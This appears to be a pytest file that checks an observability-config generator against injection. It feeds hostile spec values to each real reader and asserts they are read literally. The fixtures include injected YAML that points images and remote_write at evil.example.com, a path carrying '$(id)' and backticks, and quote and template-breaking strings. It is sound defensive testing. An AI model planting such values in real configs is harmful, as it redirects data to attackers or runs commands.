"""No spec value escapes into another tool's syntax: each hostile value is read back literally by the real reader.

The spec is rendered without `validate` (which refuses most of these values): the renderers must stay safe
on their own. Readers: kustomize (kubectl kustomize), promtool, amtool and Alertmanager's template engine
(`amtool template render`), /bin/sh, Compose's interpolation rules (compose-go's template pattern, the
docker compose reader, which is not installed here), Grafana's LogQL grammar and Go's string rules.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import require_tool, run, write_tree

from obsgen.model import resolve
from obsgen.render import compose, render_all
from obsgen.render.compose import IMAGES, JOIN_IMAGE
from obsgen.spec.load import load_text
from obsgen.spec.models import Spec

INJECTED = "/run/secrets/slack\nimages: [{name: prom/prometheus, newName: evil.example.com/prometheus}]\n#"
SOURCE = "spec\nremote_write: [{url: 'http://evil.example.com/'}]\n#.yaml"
ERROR_STATUS = '5..",job=~".+'
CHANNEL = '{{ .Foo #{{ "x" }}'
DOMAIN = "${X:?boom} $HOME $$"
RUNBOOK = "https://runbooks.example.com/{service}/{alert}?q={{ .Foo }}"
LEVELS = ['err"or', "a\\b", "x`y", "lvl|.*"]


def hostile_spec(tmp: Path) -> str:
    dsn = f"{tmp}/s/$(id);`id`;x y"
    return f"""
version: 1
project: {{name: shop, runbook_url: {json.dumps(RUNBOOK)}}}
defaults:
  metrics: {{error_status: {json.dumps(ERROR_STATUS)}}}
services:
  - name: web
    scrape:
      kubernetes: {{namespace: shop, pod_labels: {{app: "a.b+c"}}, port: metrics}}
    thresholds:
      - {{indicator: error_rate, warning: 1%, critical: 5%}}
    logs:
      source: {{tail: /var/log/web/*.log}}
      labels: []
      error_levels: {json.dumps(LEVELS)}
      error_lines_per_minute: 5
channels:
  slack: {{type: slack, channel: {json.dumps(CHANNEL)}, api_url_file: {json.dumps(INJECTED)}}}
  genie: {{type: opsgenie, api_key_file: "/etc/alertmanager/secrets/a b"}}
  teams: {{type: msteams, webhook_url_file: "/etc/alertmanager/secrets/a:b"}}
  hook: {{type: webhook, url: "http://hook:9000/"}}
email: {{smarthost: "smtp.example.com:587", from: alerts@example.com, auth_password_file: "/etc/alertmanager/secrets/a?b"}}
routing: {{default: hook, severity: {{critical: [slack, genie, teams]}}}}
stack:
  deploy: [compose, kubernetes]
  exporters:
    - {{type: postgres, dsn_file: {json.dumps(dsn)}}}
  grafana: {{settings: {{server: {{domain: {json.dumps(DOMAIN)}}}}}}}
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str], Spec]:
    tmp = tmp_path_factory.mktemp("hostile")
    spec = Spec.model_validate(load_text(hostile_spec(tmp), "hostile.yaml").data)  # no validate: on purpose
    files = render_all(resolve(spec, SOURCE))
    return write_tree(tmp / "out", files), files, spec


def kustomize(out: Path) -> list[dict[str, Any]]:
    kubectl = require_tool("kubectl")
    proc = subprocess.run([kubectl, "kustomize", str(out / "kubernetes")], capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr
    return [o for o in yaml.safe_load_all(proc.stdout) if o]


def k8s_expand(text: str) -> str:
    """Kubernetes' expansion of command, args and env values with no variables defined (expansion.Expand):
    `$$` is `$`, `$(NAME)` of an unknown name stays as written."""
    return re.sub(r"\$(\$|\([^)]*\))", lambda m: "$" if m.group(1) == "$" else m.group(0), text)


# compose-go's template/template.go pattern: `$$`, `$name`, `${...}`; a `${` it cannot read is an error
_COMPOSE = re.compile(r"\$(?i:(?P<escaped>\$)|(?P<named>[_a-z][_a-z0-9]*)|\{(?:(?P<braced>[_a-z][_a-z0-9]*"
                      r"(?::?[-+?](.*))?)\}|(?P<invalid>)))")


def compose_interpolate(text: str, env: dict[str, str]) -> str:
    def sub(m: re.Match[str]) -> str:
        if m.group("escaped"):
            return "$"
        if m.group("invalid") is not None:
            raise ValueError(f"invalid template {text!r}")
        braced = m.group("braced") or m.group("named")
        name, rest = re.match(r"([_A-Za-z0-9]+)(.*)", braced).groups()  # type: ignore[union-attr]
        if rest.startswith((":?", "?")) and not env.get(name):
            raise ValueError(f"required variable {name} is missing: {rest}")
        if rest.startswith((":-", "-")):
            return env.get(name) or rest.lstrip(":-")
        return env.get(name, "")
    return _COMPOSE.sub(sub, text)


def strings(data: Any) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for v in data.values() for s in strings(v)]
    if isinstance(data, list):
        return [s for v in data for s in strings(v)]
    return []


# --------------------------------------------------------------------------- comments


def test_a_newline_in_a_path_or_the_spec_name_stays_in_its_comment(hostile: tuple[Path, dict[str, str], Spec],
                                                                     promtool: str) -> None:
    out, files, _ = hostile
    for path, text in files.items():
        if path.endswith((".yml", ".yaml")) or path == "fluentd/fluent.conf":
            head = text.split("\n", 1)[0]
            assert head.startswith("# Generated by obsgen from spec\\nremote_write"), (path, head)
    assert "remote_write" not in yaml.safe_load(files["prometheus/prometheus.yml"])
    kustomization = yaml.safe_load(files["kubernetes/kustomization.yaml"])
    assert "images" not in kustomization
    built = kustomize(out)
    images = {c["image"] for o in built if o["kind"] in ("Deployment", "StatefulSet", "DaemonSet")
              for c in o["spec"]["template"]["spec"]["containers"] + o["spec"]["template"]["spec"].get("initContainers", [])}
    assert images <= set(IMAGES.values()) | {JOIN_IMAGE, "obsgen/shop-fluentd:local"}, images
    proc = run([promtool, "check", "config", "--syntax-only", str(out / "prometheus/prometheus.yml")])
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --------------------------------------------------------------------------- PromQL


def test_a_quote_in_error_status_stays_in_its_promql_string(hostile: tuple[Path, dict[str, str], Spec],
                                                            promtool: str) -> None:
    out, files, _ = hostile
    rules = yaml.safe_load(files["prometheus/rules/web.yml"])
    exprs = [r["expr"] for g in rules["groups"] for r in g["rules"] if r.get("alert") == "WebErrorRateHigh"]
    assert exprs and all('status=~"5..\\",job=~\\".+"' in e for e in exprs), exprs
    # The generated tests feed an error status the regex matches (it holds the quote) and one it does not:
    # the alert fires on the first only if the whole value reached the matcher as one regex.
    tests = yaml.safe_load(files["prometheus/tests/web.test.yml"])
    assert any("WebErrorRateHigh" in t["name"] for t in tests["tests"])
    proc = run([promtool, "test", "rules", str(out / "prometheus/tests/web.test.yml")])
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_pod_label_values_are_literal_relabel_regexes(hostile: tuple[Path, dict[str, str], Spec]) -> None:
    _, files, _ = hostile
    job = next(j for j in yaml.safe_load(files["prometheus/prometheus.yml"])["scrape_configs"] if j["job_name"] == "web")
    regex = next(r["regex"] for r in job["relabel_configs"]
                 if r.get("source_labels") == ["__meta_kubernetes_pod_label_app"])
    # Prometheus anchors the RE2 regex; RE2's syntax for these escapes is Python's
    assert re.fullmatch(regex, "a.b+c") and not re.fullmatch(regex, "axbbc")


# --------------------------------------------------------------------------- Go templates


def test_literal_receiver_fields_are_not_templates(hostile: tuple[Path, dict[str, str], Spec], amtool: str) -> None:
    out, files, _ = hostile
    proc = run([amtool, "check-config", str(out / "alertmanager/alertmanager.yml")])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    config = yaml.safe_load(files["alertmanager/alertmanager.yml"])
    channel = next(r["slack_configs"][0]["channel"] for r in config["receivers"] if r["name"] == "slack")
    proc = run([amtool, "template", "render", f"--template.glob={out}/alertmanager/templates/*.tmpl",
                f"--template.text={channel}"])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.rstrip("\n") == CHANNEL


def test_literal_annotations_are_not_templates(hostile: tuple[Path, dict[str, str], Spec], promtool: str) -> None:
    out, files, _ = hostile
    rules = yaml.safe_load(files["prometheus/rules/web.yml"])
    down = next(r for g in rules["groups"] for r in g["rules"] if r.get("alert") == "WebDown")
    assert down["annotations"]["runbook_url"] != RUNBOOK.replace("{service}", "web").replace("{alert}", "WebDown")
    # the generated tests expect the link as written; promtool compares it with what Prometheus expands
    tests = yaml.safe_load(files["prometheus/tests/web.test.yml"])
    expected = [a["exp_annotations"]["runbook_url"] for t in tests["tests"] for c in t["alert_rule_test"]
                for a in c.get("exp_alerts", []) if c["alertname"] == "WebDown"]
    assert expected == [RUNBOOK.replace("{service}", "web").replace("{alert}", "WebDown")]
    proc = run([promtool, "test", "rules", str(out / "prometheus/tests/web.test.yml")])
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --------------------------------------------------------------------------- compose and the shell


def test_compose_reads_every_value_literally(hostile: tuple[Path, dict[str, str], Spec], tmp_path: Path) -> None:
    _, files, _ = hostile
    data = yaml.safe_load(files["docker-compose.yml"])
    env = {"OBSGEN_SECRETS_DIR": "/srv/secrets"}
    for text in strings(data):
        compose_interpolate(text, env)  # `${X:?boom}` unescaped would abort here, as in docker compose
    grafana = data["services"]["grafana"]["environment"]
    assert compose_interpolate(grafana["GF_SERVER_DOMAIN"], env) == DOMAIN
    assert all(compose_interpolate(s["file"], env).startswith("/srv/secrets/") for s in data["secrets"].values())


def test_the_dsn_script_reads_its_path_literally(hostile: tuple[Path, dict[str, str], Spec]) -> None:
    out, files, spec = hostile
    dsn = next(e.dsn_file for e in spec.stack.exporters if not isinstance(e, str))
    Path(dsn).parent.mkdir(parents=True, exist_ok=True)
    Path(dsn).write_text("postgresql://exporter@db:5432/postgres")
    entrypoint = yaml.safe_load(files["docker-compose.yml"])["services"]["postgres-exporter"]["entrypoint"]
    argv = [compose_interpolate(a, {}) for a in entrypoint]
    assert argv[:2] == ["/bin/sh", "-c"] and argv[-1] == "/bin/postgres_exporter"
    # the very script, with `env` in the exporter's place: `$(id)`, `;` and backticks must stay in the path
    proc = subprocess.run([*argv[:-1], "/usr/bin/env"], capture_output=True, text=True, timeout=30,
                          env={"PATH": os.environ["PATH"]})
    assert proc.returncode == 0, proc.stderr
    assert "DATA_SOURCE_NAME=postgresql://exporter@db:5432/postgres" in proc.stdout.splitlines()
    assert "uid=" not in proc.stdout + proc.stderr


def test_kubernetes_reads_env_values_literally(hostile: tuple[Path, dict[str, str], Spec]) -> None:
    out, _, _ = hostile
    grafana = next(o for o in kustomize(out) if o["kind"] == "Deployment" and o["metadata"]["name"] == "grafana")
    env = {e["name"]: e.get("value") for e in grafana["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert k8s_expand(env["GF_SERVER_DOMAIN"]) == DOMAIN


def test_secret_files_never_share_a_key(hostile: tuple[Path, dict[str, str], Spec]) -> None:
    out, files, spec = hostile
    keys = compose.secret_keys(resolve(spec, SOURCE))
    # one folder, names that differ only in characters a key cannot hold: neither name nor path tells them apart
    assert len({keys[f"/etc/alertmanager/secrets/a{c}b"] for c in " :?"}) == 3
    assert len(set(keys.values())) == len(keys)
    assert all(re.fullmatch(r"[-._a-zA-Z0-9]+", k) for k in keys.values())
    secrets = yaml.safe_load(files["docker-compose.yml"])["secrets"]
    assert len(secrets) == len(keys)
    am = next(o for o in kustomize(out) if o["kind"] == "StatefulSet" and o["metadata"]["name"] == "alertmanager")
    items = [(v["secret"]["items"]) for v in am["spec"]["template"]["spec"]["volumes"] if "secret" in v]
    mounted = [i["key"] for group in items for i in group]
    assert len(mounted) == len(set(mounted)) == 4  # slack's, genie's, teams' and the SMTP password


# --------------------------------------------------------------------------- LogQL


def _logql(files: dict[str, str]) -> list[str]:
    rules = yaml.safe_load(files["loki/rules/fake/web.yml"])
    exprs = [r["expr"] for g in rules["groups"] for r in g["rules"]]
    dashboard = json.loads(files["grafana/dashboards/web.json"])
    panels = [p for p in dashboard["panels"] if p.get("datasource", {}).get("type") == "loki"]
    return exprs + [t["expr"] for p in panels for t in p.get("targets", [])]


def test_logql_strings_hold_their_values(hostile: tuple[Path, dict[str, str], Spec]) -> None:
    from obsgen.file_checks import BUILTIN_VALUES, LOGQL_SCRIPT, logql_node_modules

    _, files, _ = hostile
    # Grafana's variables as Grafana fills them in before Loki reads the expression
    exprs = [re.sub(r"\$(\w+)", lambda m: BUILTIN_VALUES.get(m.group(1), "x"), e) for e in _logql(files)]
    assert len(exprs) >= 2
    node, modules = require_tool("node"), logql_node_modules()
    if modules is None:
        pytest.fail("@grafana/lezer-logql not installed: run `make tools`") if os.environ.get("CI") == "true" \
            else pytest.skip("@grafana/lezer-logql not installed: run `make tools`")
    proc = subprocess.run([node, str(LOGQL_SCRIPT), str(modules)], input=json.dumps(exprs), capture_output=True,
                          text=True, timeout=60)
    verdicts = json.loads(proc.stdout)
    assert all(v["ok"] for v in verdicts), verdicts
    # Loki reads a "..." literal with Go's strconv.Unquote; JSON's escapes are a subset of Go's
    checked = 0
    for expr in exprs:
        literals = [json.loads(m) for m in re.findall(r'"(?:[^"\\]|\\.)*"', expr)]
        if not any("err" in v for v in literals):
            continue  # the panel of every line
        regex = next(v for v in literals if "err" in v)
        assert all(re.fullmatch(regex, level) for level in LEVELS)
        assert not re.fullmatch(regex, "lvl|x") and not re.fullmatch(regex, "error")
        checked += 1
    assert checked >= 2  # the Loki rule and the dashboard's error panel
